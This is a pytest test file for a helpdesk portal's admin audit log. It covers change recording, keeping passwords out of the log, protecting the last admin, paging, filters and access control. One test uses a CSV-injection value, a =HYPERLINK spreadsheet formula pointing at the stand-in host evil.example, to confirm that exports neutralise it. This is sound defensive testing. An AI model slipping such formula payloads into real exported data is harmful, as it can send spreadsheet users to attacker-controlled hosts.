# tests/http/test_audit.py: every administrative change is noted with what it changed; the list of them.
# SPDX-License-Identifier: Apache-2.0
import csv
import io
import uuid

import pytest

from backup_load import rows_of
from portal import PASSWORD

pytestmark = pytest.mark.event


def noted(site, label):
    """What was done to a thing, as (what, field, from, to)."""
    columns, rows = rows_of(site, "audit")["audit"]
    found = [dict(zip(columns, row)) for row in rows]
    return [(row["what"], row["field"], row["from_value"], row["to_value"])
            for row in sorted(found, key=lambda row: int(row["id"])) if row["label"] == label]


def changes(admin, query=""):
    return admin.xml("/admin/audit" + query).findall("list/change")


def identifier(admin, label):
    """The public id by which the audit knows a thing."""
    return next(one.get("address") for one in changes(admin) if one.get("label") == label).rpartition("=")[2]


@pytest.fixture(scope="module")
def history(portal):
    """An account with more changes than a page of the list shows: its name."""
    account, email = portal.add_account(), portal.add_person()
    for turn in range(60):
        portal.add_member(account, email, "billing" if turn % 2 else "support")
    return account


def test_what_helpdeskctl_changes_is_noted_once(site):
    email = site.add_person()
    account = site.add_account()
    for rights in "billing", "billing", "owner":
        site.add_member(account, email, rights)
    site.ctl("person", "disable", email)
    site.ctl("person", "disable", email)
    site.ctl("person", "enable", email)
    slug = f"d{uuid.uuid4().hex[:8]}"
    agent = site.add_person(role="agent")
    site.ctl("department", "add", slug, "--name-en", "Some")
    for _ in range(2):
        site.ctl("department", "staff", slug, agent)
    assert [row[0] for row in noted(site, email)] == ["created", "disabled", "enabled"]
    assert noted(site, account) == [("created", "", "", ""), ("member-set", email, "", "billing"),
                                    ("member-set", email, "billing", "owner")]
    assert noted(site, slug) == [("created", "", "", ""), ("changed", "staff", "", agent)]


def test_a_password_never_stands_in_the_audit(site):
    email = site.add_person()
    site.ctl("person", "passwd", email, "--password-stdin", stdin="correct-horse-9\n")
    assert ("password-set", "", "", "") in noted(site, email)
    rows = rows_of(site, "audit", "person")
    everything = repr(rows["audit"])
    hashes = [row[rows["person"][0].index("password_hash")] for row in rows["person"][1]]
    for secret in PASSWORD, "correct-horse-9", *filter(None, hashes):
        assert secret not in everything


def test_the_last_admin_cannot_be_kept_out(site):
    others = [row for row in site.ctl("person", "list").stdout.splitlines() if "admin" in row and "admin@example.com" not in row]
    for row in others:
        site.ctl("person", "disable", next(word for word in row.split() if "@" in word))
    before = noted(site, "admin@example.com")
    done = site.ctl("person", "disable", "admin@example.com", check=False)
    for row in others:
        site.ctl("person", "enable", next(word for word in row.split() if "@" in word))
    assert done.returncode != 0 and "last admin" in done.stderr
    assert noted(site, "admin@example.com") == before
    assert site.sign_in("admin@example.com")


def test_the_pages_of_the_audit_lead_through_all_of_it_and_back(site, admin, history):
    address = f"/admin/audit?object=account&id={identifier(admin, history)}"
    page = admin.xml(address)
    pages = [page]
    while (link := page.find("list/link[@name='next']")) is not None:
        page = admin.xml(link.get("address"))
        pages.append(page)
    seen = [[(one.get("what"), one.findtext("to") or one.find("to").get("word")) for one in page.findall("list/change")[:-1]]
            for page in pages]
    assert [len(page.findall("list/change")) for page in pages] == [50, 11]
    assert all(one[0] == "member-set" for page in seen for one in page)
    back = admin.xml(pages[1].find("list/link[@name='previous']").get("address"))
    assert [one.attrib for one in back.findall("list/change")] == [one.attrib for one in pages[0].findall("list/change")]
    assert back.find("list/link[@name='previous']") is None


def test_the_audit_is_narrowed_by_who_what_thing_and_day(site, admin, history):
    mine = f"?object=account&id={identifier(admin, history)}"
    assert {one.get("what") for one in changes(admin, mine + "&what=created")} == {"created"}
    assert len(changes(admin, mine + "&person=helpdeskctl")) == 50
    person = next(one.get("value") for one in admin.xml("/admin/audit").findall("list/filter[@name='person']/option")
                  if one.text == "Admin Adam")
    assert changes(admin, mine + f"&person={person}") == []
    assert changes(admin, mine + "&until=2020-01-01") == [] and len(changes(admin, mine + "&since=2020-01-01")) == 50
    assert changes(admin, mine + "&since=2999-01-01") == []
    for bad in "&since=nonsense", "&what=nonsense", "&after=-7", "&after=99999999999999999999", "&person=nobody":
        assert len(changes(admin, mine + bad)) == 50, bad


def test_a_name_that_is_a_formula_stays_text_in_the_table(site, admin):
    evil = f'=HYPERLINK("http://evil.example/?{uuid.uuid4().hex}")'
    site.add_account(evil)
    response = admin.get("/admin/audit.csv?what=created&object=account")
    assert response.header("Content-Type") == "text/csv; charset=utf-8" and "attachment" in response.header("Content-Disposition")
    rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
    assert [row for row in rows if row["label"] == "'" + evil] and not [row for row in rows if row["label"] == evil]
    assert {(row["what"], row["object"]) for row in rows} == {("created", "account")}
    assert len(admin.get("/admin/audit.csv").text.splitlines()) > 60, "a table is more than a page"


def test_only_admins_have_the_administration(site, agent, client, admin):
    assert admin.get("/desk/").html.xpath("//nav//a[@href='/portal/admin/']")
    assert not agent.get("/desk/").html.xpath("//nav//a[@href='/portal/admin/']")
    for who in agent, client:
        assert [who.get(path).status for path in ("/admin/", "/admin/audit", "/admin/audit.csv")] == [403] * 3
